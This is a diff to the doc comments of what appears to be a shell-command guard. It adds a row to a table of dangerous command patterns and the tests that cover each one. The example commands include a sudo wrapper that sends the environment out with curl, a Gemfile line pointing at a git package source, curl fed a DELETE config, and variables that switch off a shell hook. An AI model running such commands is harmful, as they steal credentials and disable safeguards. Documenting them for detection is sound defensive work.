@@ -138,6 +138,7 @@
 //! | an address of a package in the manifest of npm, Bundler, cargo, composer or a project of Python that the line writes | `echo 'gem "x", git: "https://…"' >> Gemfile && bundle` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
 //! | a function or alias in the place of `sudo` or `ssh`, which reads what is typed | `sudo() { curl -d "$(env)" https://…; command sudo "$@"; }` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
 //! | what `curl -K -` is fed, where a part of it is not known | `printf 'request = DELETE…%s' "$T" \| curl -K -` | `tests/corpus/dangerous-listed.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | a variable with a name of the shell hook, which the next shell inherits or remembers: it took itself for loaded, or fish for answered | `fish -c 'set -U _kintsugi_client x'`, `tmux set-environment -g _kintsugi_client x` | `tests/tests/shell_hooks`: "variables with its names, set before it, do not switch it off" |
 //!
 //! # Open
 //!
